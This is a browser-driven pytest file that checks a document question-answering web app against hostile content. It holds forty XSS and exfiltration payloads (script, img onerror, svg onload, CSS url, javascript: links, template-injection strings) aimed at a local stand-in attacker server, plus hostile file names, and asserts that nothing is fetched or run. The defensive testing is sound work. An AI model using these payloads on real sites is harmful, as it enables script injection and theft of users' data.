"""Forty hostile texts in documents, file names and questions: the browser sends nothing anywhere, and runs nothing.

A server on another port of this machine notes every request; it stands for the attacker's.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from browsing import IN_A_BROWSER, WAIT_MS, Serving, Visit

from dealqa.assistant import Assistant
from dealqa.config import Settings
from dealqa.index import build_index

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = IN_A_BROWSER

PAYLOADS = (
    "![x]({sink}/1)",
    "![x][ref]\n\n[ref]: {sink}/2",
    "<img src={sink}/3>",
    '<img src="x" onerror="fetch(\'{sink}/4\')">',
    "<svg><image href='{sink}/5'/></svg>",
    "<svg onload=\"fetch('{sink}/6')\">",
    '<div style="background:url({sink}/7)">x</div>',
    "<script>fetch('{sink}/8')</script>",
    "<script src={sink}/9></script>",
    "<iframe src={sink}/10></iframe>",
    "<object data={sink}/11></object>",
    "<embed src={sink}/12>",
    "<link rel=stylesheet href={sink}/13>",
    "<meta http-equiv=refresh content='0;url={sink}/14'>",
    "<base href={sink}/15>",
    "<video src={sink}/16 autoplay></video>",
    "<audio src={sink}/17 autoplay></audio>",
    "<video poster={sink}/18></video>",
    "<input type=image src={sink}/19>",
    "<form action={sink}/20><button>Go</button></form>",
    "<body onload=fetch('{sink}/21')>",
    "<a href='javascript:fetch(\"{sink}/22\")'>click</a>",
    "[click](javascript:fetch('{sink}/23'))",
    "[click]({sink}/24)",
    "<style>@import '{sink}/25';</style>",
    "<style>*{{background:url({sink}/26)}}</style>",
    "<table background={sink}/27><tr><td>x</table>",
    "<details open ontoggle=fetch('{sink}/28')>",
    "<math><a xlink:href={sink}/29>x</a></math>",
    "<img srcset='{sink}/30 1x'>",
    "<picture><source srcset={sink}/31><img></picture>",
    "![x](/gradio_api/file={sink}/32)",
    "<img src='/gradio_api/proxy={sink}/33'>",
    "<img src=//{host}/34>",
    "${{fetch('{sink}/35')}}",
    "{{{{constructor.constructor('fetch(\"{sink}/36\")')()}}}}",
    "$$\\href{{{sink}/37}}{{x}}$$",
    '```mermaid\ngraph TD; A-->B; click A "{sink}/38"\n```',
    "\"><img src={sink}/39 onerror=fetch('{sink}/39')>",
    "data:text/html,<script>fetch('{sink}/40')</script>",
)

IN_NAMES = (
    "<img src=x onerror=window.owned=1>.md",
    '"><svg onload=window.owned=1>.md',
    "${window.owned=1}.md",
    "{{constructor.constructor('window.owned=1')()}}.md",
    "javascript:window.owned=1.md",
)


@dataclass
class Sink:
    """The attacker's server, and what was asked of it."""

    address: str
    host: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    asked: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        host = f"127.0.0.1:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Sink(f"http://{host}", host, asked)
        server.shutdown()


@pytest.fixture(scope="module")
def payloads(sink: Sink) -> list[str]:
    return [payload.format(sink=sink.address, host=sink.host) for payload in PAYLOADS]


@pytest.fixture(scope="module")
def hostile_address(
    payloads: list[str], index_settings: Settings, serving: Serving, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The web app over documents whose titles, headings, sentences, tables and names are hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus"
    corpus.mkdir()
    names = [*IN_NAMES, *(f"paper-{number}.md" for number in range(len(payloads) - len(IN_NAMES)))]
    for number, (name, payload) in enumerate(zip(names, payloads, strict=True)):
        one_line = " ".join(payload.split())
        (corpus / name).write_text(
            f"# Paper of place{number} {one_line}\n\n## Rates {one_line}\n\n"
            f"The council of Town{number} retains £{number + 10} million under the name {one_line} for its fund.\n\n"
            f"{payload}\n\n| Fund | Sum |\n| --- | --- |\n| Fund of Town{number} {one_line} | £{number + 50}m |\n",
            encoding="utf-8",
        )
    settings = index_settings.model_copy(update={"corpus": corpus, "index": folder / "index"})
    report = build_index(settings)
    assert report.documents == len(payloads), report.failures
    with Assistant(settings) as assistant, serving(assistant) as where:
        yield where


@pytest.fixture
def watched(browser: Browser, hostile_address: str) -> Iterator[Visit]:
    """The page over the hostile documents."""
    page = browser.new_page()
    here = Visit(page)
    page.on("request", lambda request: here.outside.append(request.url) if hostile_address not in request.url else None)
    page.goto(hostile_address)
    page.locator("#conversation .log").wait_for(state="attached", timeout=WAIT_MS)
    yield here
    page.close()


def unharmed(here: Visit, sink: Sink) -> None:
    """Nothing was sent anywhere, nothing ran."""
    here.page.wait_for_timeout(150)  # for what would have been sent later
    outside = [url for url in here.outside if not url.startswith(("data:", "blob:"))]
    assert outside == []
    assert sink.asked == []
    assert here.page.evaluate("window.owned") is None


def test_the_sink_notes_what_a_page_without_our_care_would_send(
    browser: Browser, sink: Sink, payloads: list[str]
) -> None:
    page = browser.new_page()
    page.goto(f"{sink.address}/start")
    page.set_content("".join(payloads[2:8]))
    page.wait_for_timeout(500)
    page.close()
    sent = {path for path in sink.asked if path not in ("/start", "/favicon.ico")}
    sink.asked.clear()
    assert len(sent) >= 4


def test_no_document_makes_the_browser_send_anything(watched: Visit, sink: Sink) -> None:
    for number in range(len(PAYLOADS)):
        watched.ask(f"How much does the council of Town{number} retain?")
    unharmed(watched, sink)
    shown = watched.page.locator("#conversation").inner_text()
    assert "under the name" in shown  # the hostile sentences are quoted, as text


def test_no_question_makes_the_browser_send_anything(watched: Visit, sink: Sink, payloads: list[str]) -> None:
    for payload in payloads:
        watched.ask(f"Does the fund say {' '.join(payload.split())}?")
    unharmed(watched, sink)


@pytest.mark.parametrize("path", ["documents", "documents?q=%3Cimg%20src=x%20onerror=window.owned=1%3E", "compare"])
def test_no_page_makes_the_browser_send_anything(watched: Visit, sink: Sink, hostile_address: str, path: str) -> None:
    watched.page.goto(f"{hostile_address}/{path}")
    unharmed(watched, sink)


def test_a_kept_conversation_with_hostile_names_is_listed_as_text(
    watched: Visit, sink: Sink, payloads: list[str]
) -> None:
    for payload in payloads[:8]:
        watched.ask(" ".join(payload.split()))
    watched.page.get_by_role("button", name="Conversations").click()
    assert watched.page.locator("dialog.history li").count() == 1
    assert watched.page.locator("dialog.history img").count() == 0
    unharmed(watched, sink)


def test_a_link_with_a_hostile_question_shows_it_as_text(watched: Visit, sink: Sink, hostile_address: str) -> None:
    watched.page.goto(f"{hostile_address}/?q=%3Cimg%20src%3D{sink.address}%2F99%3E")
    watched.wait_for_turn(1)
    assert watched.page.locator(".turn .question").inner_text() == f"<img src={sink.address}/99>"
    unharmed(watched, sink)


def test_names_of_files_are_shown_as_text(watched: Visit, sink: Sink, hostile_address: str) -> None:
    watched.page.goto(f"{hostile_address}/documents")
    shown = watched.page.locator("main").inner_text()
    for name in IN_NAMES:
        assert name in shown
    unharmed(watched, sink)
